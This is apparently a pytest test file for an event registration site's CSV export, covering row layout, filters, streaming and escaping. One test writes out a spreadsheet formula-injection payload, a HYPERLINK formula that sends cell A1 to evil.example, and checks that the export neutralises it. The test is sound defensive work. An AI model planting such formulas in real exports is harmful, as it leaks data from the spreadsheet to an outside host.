"""The CSV export: one row per ticket with every answer, UTF-8 with a BOM, streamed, and safe to open
in a spreadsheet (no formula injection)."""
from __future__ import annotations

import csv
import io
import types
from datetime import datetime, timezone
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import update

from eventsite.core.db import utcnow
from eventsite.extensions import db
from eventsite.registration import export
from eventsite.registration.models import Order, Ticket
from tests.registration.manage_support import (
    bulk_tickets,
    check_in,
    in_app,
    make_setup,
    register,
)


@pytest.fixture
def reg(app, organizer):
    """The event of manage_support.make_setup: published, Europe/Berlin, two free types, three questions."""
    return in_app(app, make_setup, organizer["organization_id"])


def _parse(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_one_row_per_ticket_with_every_answer(app, organizer_client, reg):
    at = datetime(2026, 3, 1, 23, 30, tzinfo=timezone.utc)  # 00:30 on 2 March in Berlin
    ada = register(app, reg.event_id, name="Ada Lovelace", email="ada@example.org", quantities={reg.general_id: 2},
                   attendees=[{"name": "Zoë Ünal", "email": ""}],
                   answers={reg.diet_id: "Vegetarian, no nuts", reg.topics_id: ["Finance", "Boards"],
                            reg.photo_id: "on"}, now=at)
    cleo = register(app, reg.event_id, name="Cleo Comp", email="cleo@example.org", quantities={reg.vip_id: 1},
                    source="complimentary")
    check_in(app, ada["tickets"][0]["id"], datetime(2026, 3, 20, 17, 5, tzinfo=timezone.utc))

    response = organizer_client.get(f"{reg.base}/registrations.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    today = utcnow().astimezone(ZoneInfo("Europe/Berlin")).date().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="leaders-dinner-registrations-{today}.csv"'

    rows = _parse(response.data)
    assert list(rows[0]) == ["Order code", "Ticket", "Status", "Attendee name", "Attendee email", "Ticket type",
                             "Price", "Currency", "Source", "Buyer name", "Buyer email",
                             "Registered at (Europe/Berlin)", "Checked in at (Europe/Berlin)",
                             "Terms accepted at (Europe/Berlin)", "Terms URL",
                             "Dietary requirements", "Topics", "Photos OK?"]
    assert len(rows) == 3
    first, second, third = rows
    assert first["Order code"] == second["Order code"] == ada["code"]
    assert (first["Attendee name"], first["Attendee email"]) == ("Ada Lovelace", "ada@example.org")
    assert (second["Attendee name"], second["Attendee email"]) == ("Zoë Ünal", "")  # UTF-8 kept
    assert first["Status"] == "Confirmed" and first["Source"] == "public" and first["Price"] == "0.00"
    assert first["Registered at (Europe/Berlin)"] == "2026-03-02 00:30"  # the event's zone
    assert first["Checked in at (Europe/Berlin)"] == "2026-03-20 18:05" and second["Checked in at (Europe/Berlin)"] == ""
    for row in (first, second):  # the order's answers on each of its tickets
        assert row["Dietary requirements"] == "Vegetarian, no nuts"
        assert row["Topics"] == "Finance, Boards"
        assert row["Photos OK?"] == "Yes"
    assert third["Attendee name"] == "Cleo Comp" and third["Ticket type"] == "VIP table"
    assert third["Source"] == "complimentary" and third["Order code"] == cleo["code"]
    assert third["Dietary requirements"] == "" and third["Photos OK?"] == "No"
    # The door secrets are never exported to a spreadsheet.
    assert all(t["secret"] not in response.get_data(as_text=True) for t in ada["tickets"])


def test_the_export_follows_the_lists_filters(app, organizer_client, reg):
    register(app, reg.event_id, name="Ada", email="ada@example.org", quantities={reg.general_id: 1})
    register(app, reg.event_id, name="Cleo", email="cleo@example.org", quantities={reg.vip_id: 1})
    rows = _parse(organizer_client.get(f"{reg.base}/registrations.csv?ticket_type={reg.vip_id}").data)
    assert [r["Attendee name"] for r in rows] == ["Cleo"]
    rows = _parse(organizer_client.get(f"{reg.base}/registrations.csv?q=ADA").data)
    assert [r["Attendee name"] for r in rows] == ["Ada"]
    assert organizer_client.get(f"{reg.base}/registrations.csv?status=nope").status_code == 400


def test_an_event_without_registrations_exports_the_header(organizer_client, reg):
    rows = organizer_client.get(f"{reg.base}/registrations.csv").data
    assert rows.decode("utf-8-sig").splitlines()[0].startswith("Order code,Ticket,Status")
    assert len(rows.decode("utf-8-sig").splitlines()) == 1


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_could_start_a_formula_are_neutralised(app, organizer_client, reg, prefix):
    payload = f"{prefix}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    ada = register(app, reg.event_id, name="Ada", email="ada@example.org", quantities={reg.general_id: 1},
                   answers={reg.diet_id: "plain"})

    def poison():  # as if an older version or an import had stored it: the export must not trust the data
        db.session.execute(update(Ticket).where(Ticket.id == ada["tickets"][0]["id"]).values(attendee_name=payload))
        db.session.execute(update(Order).where(Order.id == ada["id"])
                           .values(buyer_name=payload, answers={str(reg.diet_id): payload}))
        db.session.commit()

    in_app(app, poison)
    row = _parse(organizer_client.get(f"{reg.base}/registrations.csv").data)[0]
    for column in ("Attendee name", "Buyer name", "Dietary requirements"):
        assert row[column] == "'" + payload, (column, row[column])
    assert row["Attendee email"] == "ada@example.org"  # ordinary cells are left alone


def test_safe_cell():
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert export.safe_cell(dangerous) == "'" + dangerous
    for harmless in ("Ada", "a=b", " =1", "", None, 12, "ada@example.org"):
        assert export.safe_cell(harmless) == ("" if harmless is None else str(harmless))


def test_the_export_is_streamed_in_chunks(app, organizer_client, reg):
    bulk_tickets(app, reg.event_id, reg.general_id, 1200)
    response = organizer_client.get(f"{reg.base}/registrations.csv", buffered=False)
    try:
        assert response.is_streamed
        assert "Content-Length" not in response.headers
        chunks = [chunk for chunk in response.response]
    finally:
        response.close()
    # The header, then one chunk per batch of 500 rows: never the whole file at once.
    assert len(chunks) == 4
    assert all(len(c) < 200_000 for c in chunks)
    body = b"".join(c if isinstance(c, bytes) else c.encode() for c in chunks)
    rows = _parse(body)
    assert len(rows) == 1200 and rows[0]["Attendee name"] == "Attendee 0000" and rows[-1]["Attendee name"] == "Attendee 1199"


def test_the_exporter_is_a_generator_reading_batch_by_batch(app, reg):
    bulk_tickets(app, reg.event_id, reg.general_id, 7)

    def run():
        from eventsite.events.models import Event

        event = db.session.get(Event, reg.event_id)
        gen = export.export_csv(event, batch=3)
        assert isinstance(gen, types.GeneratorType)
        return list(gen)

    chunks = in_app(app, run)
    assert len(chunks) == 4  # header, 3 + 3 + 1 rows
    assert [c.count("\r\n") for c in chunks] == [1, 3, 3, 1]
